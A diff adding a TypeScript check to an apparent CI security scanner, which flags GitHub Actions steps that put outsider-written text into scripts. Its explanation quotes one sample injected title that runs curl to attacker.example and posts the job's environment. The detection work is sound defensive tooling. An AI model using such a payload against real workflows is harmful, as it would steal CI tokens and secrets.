@@ -1,0 +1,70 @@
+// SPDX-License-Identifier: Apache-2.0
+import { defineCheck } from '../../model/check.ts';
+import { judgeSteps } from './shared/judge.ts';
+import { outsideTexts, privilegedEventsOf } from './shared/outsiders.ts';
+import { prizeOf } from './shared/tokens.ts';
+import { hasTrigger, stepText } from './shared/views.ts';
+
+/** Inputs of actions that are run as code. */
+const codeInputs: ReadonlyMap<string, readonly string[]> = new Map([
+  ['actions/github-script', ['script']],
+  ['azure/cli', ['inlinescript']],
+  ['azure/powershell', ['inlinescript']],
+  ['appleboy/ssh-action', ['script']],
+  ['cloudposse/actions', ['script']],
+  ['nick-fields/retry', ['command']],
+  ['nick-invision/retry', ['command']],
+  ['addnab/docker-run-action', ['run']],
+  ['amadevus/pwsh-script', ['script']],
+  ['mikefarah/yq', ['cmd']],
+  ['gautamkrishnar/keepalive-workflow', []],
+]);
+
+export const githubScriptsFreeOfOutsideText = defineCheck({
+  id: 'ci-github-scripts-free-of-outside-text',
+  area: 'ci',
+  title: 'Scripts contain no text that outsiders write',
+  weakness: 'Text of outsiders becomes part of a script',
+  severity: 'high',
+  rows: ['A4'],
+  why: 'GitHub puts the value of an expression into the script before the shell reads it. A title such as `"; curl attacker.example -d "$(env)"` is then a command, and it runs next to the tokens of the job.',
+  remediation: [
+    'Pass the value as a variable: `env: { TITLE: <the expression> }`, and use `"$TITLE"` in the script.',
+    'In github-script read it from `context.payload` instead of an expression.',
+  ],
+  mappings: {
+    owasp: ['CICD-SEC-4'],
+    mitigations: ['M1047'],
+    peers: {
+      zizmor: ['template-injection'],
+      poutine: ['injection'],
+      octoscan: ['expression-injection'],
+      scorecard: ['Dangerous-Workflow'],
+      actionlint: ['expression: untrusted inputs'],
+    },
+  },
+  needs: [{ kind: 'ci.step', provider: 'github' }],
+  *judge(inventory) {
+    yield* judgeSteps(inventory, 'github', (step, view) => {
+      const inputs = codeInputs.get(step.uses?.name.toLowerCase() ?? '') ?? [];
+      const code = step.expressions.filter(
+        ({ at: [first, second] }) =>
+          first === 'run' || (first === 'with' && inputs.includes(String(second).toLowerCase())),
+      );
+      if (step.run === undefined && inputs.length === 0) return undefined;
+      const found = code.flatMap((it) => outsideTexts(it, view, step).map((text) => ({ it, text })))[0];
+      if (found === undefined) return 'pass';
+      const { pipeline } = view;
+      const events = privilegedEventsOf(pipeline);
+      const prize = prizeOf(view);
+      const forkOnly =
+        events.length === 0 && pipeline.type === 'workflow' && !hasTrigger(pipeline, 'push', 'workflow_call');
+      return {
+        summary: `${stepText(step, view)} writes ${found.text} into its script, so whoever chooses that text runs commands there${prize === undefined || forkOnly ? '' : `, next to ${prize}`}.`,
+        at: found.it.at,
+        note: found.it.text,
+        severity: events.length > 0 && prize !== undefined ? 'critical' : forkOnly ? 'medium' : 'high',
+      };
+    });
+  },
+});
